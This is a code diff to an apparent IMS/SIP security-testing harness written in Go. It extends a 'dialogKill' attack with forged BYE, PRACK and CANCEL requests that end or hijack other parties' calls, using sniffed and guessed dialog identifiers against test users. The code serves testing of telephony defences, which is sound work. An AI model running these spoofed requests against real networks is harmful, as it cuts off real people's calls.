@@ -3,11 +3,13 @@ package attack
 import (
 	"context"
 	"fmt"
+	"net/netip"
 	"slices"
 	"strings"
 	"time"
 
 	"imsafe/client/ue"
+	"imsafe/proto/sip"
 	"imsafe/secure"
 )
 
@@ -18,12 +20,15 @@ func dialogKill() Attack {
 		Text:     "identifiers of a call are no secret: whoever saw them could end it",
 		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption, Destruction}, Module: ServicesControl,
 		Source: "TS 33.203 7.1; RFC 3261 12.2", Access: both(),
-		Bounds: Bounds{Packets: 60, Bytes: 80_000, Conns: 2, Time: 3 * time.Second},
+		Bounds: Bounds{Packets: 160, Bytes: 150_000, Conns: 24, Time: 3 * time.Second},
 		Variants: []Variant{
 			{Name: "subscriber", Position: Subscriber, Run: killAsSubscriber, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
 			{Name: "own-way", Position: Subscriber, Run: killByOwnWay, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
 			{Name: "stranger", Position: OffPath, Run: killAsStranger,
 				Controls: []secure.ControlID{secure.CIAuthorizationProtectedPort, secure.CIIntegrityDialogOwner}},
+			{Name: "prack", Position: Subscriber, Run: acknowledgeForAnother, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
+			{Name: "cancel", Position: Subscriber, Run: cancelForAnother, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner},
+				NoAblation: "a CANCEL is matched with the INVITEs of its own connection or association (RFC 3261 9.2): no setting takes that away"},
 		},
 	}
 }
@@ -69,15 +74,21 @@ func killAsStranger(ctx context.Context, f *Field, o *Outcome) error {
 	return kill(ctx, f, o, stranger, nil)
 }
 
-// kill sends BYE in the name of either end of a call between alice and bob, with all that a reader of their signalling knows.
+// How many requests end a call of others, and how many of them with all that a reader of its signalling knows: in the rest its identifiers are guessed.
+const (
+	kills   = 100
+	sniffed = 10
+)
+
+// kill sends BYE in the name of either end of a call between alice and bob.
 func kill(ctx context.Context, f *Field, o *Outcome, killer *Hand, entry []string) error {
 	out, in, err := f.Alice.Talk(ctx, f.Bob)
 	if err != nil {
 		return err
 	}
 	defer func() { out.Hangup(); in.Hangup() }()
-	const times = 10
-	for i := range times {
+	over := false
+	for i := range sniffed {
 		leg, err := []*ue.Call{out, in}[i%2].Leg(ctx)
 		if err != nil {
 			return err
@@ -99,11 +110,16 @@ func kill(ctx context.Context, f *Field, o *Outcome, killer *Hand, entry []strin
 			continue
 		}
 		o.Arrived("%d BYEs, the last answered %d", i+1, status)
-		if status == 200 {
+		if over = status == 200; over {
 			break
 		}
 	}
-	o.Wire(false, "%d BYEs", times)
+	for i := sniffed; i < kills && !over; i++ {
+		if err := killer.Write(killer.Text(Request{Method: "BYE", URI: f.Bob.IMPU, From: f.Alice.IMPU, FromTag: f.token(), ToTag: f.token()})); err != nil {
+			return err
+		}
+	}
+	o.Wire(false, "%d BYEs, %d of them with identifiers that were sniffed, if none of them ends the call", kills, sniffed)
 	if err := f.stillTalk(ctx, out, in); err != nil {
 		o.Users = 2
 		o.Peer(true, "%v", err)
@@ -111,6 +127,124 @@ func kill(ctx context.Context, f *Field, o *Outcome, killer *Hand, entry []strin
 	}
 	o.Peer(false, "alice and bob go on talking")
 	return attackOver(Part(ctx, out, in))
+}
+
+// acknowledgeForAnother sends PRACKs in carol's name while bob's telephone, which she calls, waits for hers: one that takes them goes on, and refuses hers.
+func acknowledgeForAnother(ctx context.Context, f *Field, o *Outcome) error {
+	carol, mallory, err := f.carolAndMallory(ctx)
+	if err != nil {
+		return err
+	}
+	_, in, early, err := carol.ringsUp(ctx, f.Bob, "Require: 100rel")
+	if err != nil {
+		return err
+	}
+	defer in.Hangup()
+	inside, err := insideOf(early, f.Bob.IMPU)
+	if err != nil {
+		return err
+	}
+	seq := string(early.Get(sip.HdrRSeq))
+	prack := inside
+	prack.Method, prack.From, prack.FromTag = "PRACK", carol.IMPU, carol.tag
+	for i := range sniffed {
+		prack.CSeq, prack.Lines = carol.number+100+uint32(i), append(slices.Clone(inside.Lines), fmt.Sprintf("RAck: %s %d INVITE", seq, carol.number))
+		status, err := mallory.answered(ctx, mallory.Text(prack))
+		if err != nil {
+			return err
+		}
+		o.Arrived("%d PRACKs, the last answered %d", i+1, status)
+		if status == 200 {
+			break
+		}
+	}
+	prack.CSeq, prack.Lines = carol.number+1, append(slices.Clone(inside.Lines), fmt.Sprintf("RAck: %s %d INVITE", seq, carol.number))
+	answer, err := carol.Ask(ctx, carol.Text(prack))
+	if err != nil {
+		return err
+	}
+	taken := answer.Status() != 200
+	if taken {
+		o.Users = 2
+	}
+	o.Peer(taken, "carol acknowledges that bob's telephone has got her call, and is answered %d", answer.Status())
+	return nil
+}
+
+// cancelForAnother sends CANCELs for a call of carol's that rings at bob's, exactly as she would, over connections of his own: of strangers, and of a subscriber.
+func cancelForAnother(ctx context.Context, f *Field, o *Outcome) error {
+	carol, mallory, err := f.carolAndMallory(ctx)
+	if err != nil {
+		return err
+	}
+	killers := []*Hand{mallory}
+	for range kills/sniffed - 1 { // each may be on another thread of the target, which knows its own calls alone
+		h, err := f.Stranger(ctx)
+		if err != nil {
+			return err
+		}
+		killers = append(killers, h)
+	}
+	invite, in, early, err := carol.ringsUp(ctx, f.Bob)
+	if err != nil {
+		return err
+	}
+	defer in.Hangup()
+	matched, heard := 0, 0
+	for _, h := range killers {
+		status, err := h.answered(ctx, cancel(invite))
+		if err != nil {
+			return err
+		}
+		if status == 200 {
+			matched++
+		}
+		if status != 0 { // an unprotected port beside protected ones answers nothing
+			heard++
+		}
+		for range kills/len(killers) - 1 {
+			guessed := h.Text(Request{Method: "CANCEL", URI: f.Bob.IMPU, From: carol.IMPU, FromTag: carol.tag, CallID: string(early.Get(sip.HdrCallID)), CSeq: carol.number})
+			if err := h.Write(guessed); err != nil {
+				return err
+			}
+		}
+	}
+	o.Arrived("%d CANCELs, %d of them as carol's own would be; %d of these are answered", kills, len(killers), heard)
+	o.Wire(matched > 0, "%d CANCELs of others are taken for carol's", matched)
+	in.Answer(ue.Voice{})
+	answer, err := carol.Await(ctx, func(m *sip.Message) bool {
+		return isFinal(m) && string(m.Get(sip.HdrCallID)) == string(early.Get(sip.HdrCallID))
+	})
+	if err != nil {
+		return err
+	}
+	ended := answer.Status() != 200
+	o.Peer(ended, "bob takes carol's call, and she hears %d", answer.Status())
+	if ended {
+		o.Users = 2
+		return nil
+	}
+	_, err = carol.acknowledges(answer, f.Bob.IMPU)
+	return err
+}
+
+// ringsUp calls a party, with further header lines, whose telephone rings: the INVITE, the call at its end and the first provisional response that it has made.
+func (h *Hand) ringsUp(ctx context.Context, p *Party, lines ...string) (invite string, in *ue.Call, early *sip.Message, err error) {
+	invite = h.Text(Request{Method: "INVITE", URI: p.IMPU, Lines: append(lines, "Contact: "+h.Contact(), "Content-Type: application/sdp"),
+		Body: describes(netip.AddrPortFrom(h.f.here(), 9))})
+	callID := lineOf(invite, "Call-ID: ")
+	if err = h.Write(invite); err != nil {
+		return
+	}
+	if in, err = p.Rung(ctx); err != nil {
+		return
+	}
+	in.Ring()
+	early, err = h.Await(ctx, func(m *sip.Message) bool { return m.Status() > 100 && string(m.Get(sip.HdrCallID)) == callID })
+	if err == nil && early.Status() >= 200 {
+		err = fmt.Errorf("attack: %s's call is answered %d", h.Name, early.Status())
+	}
+	return
 }
 
 // attackOver names an error of what comes behind an attack.
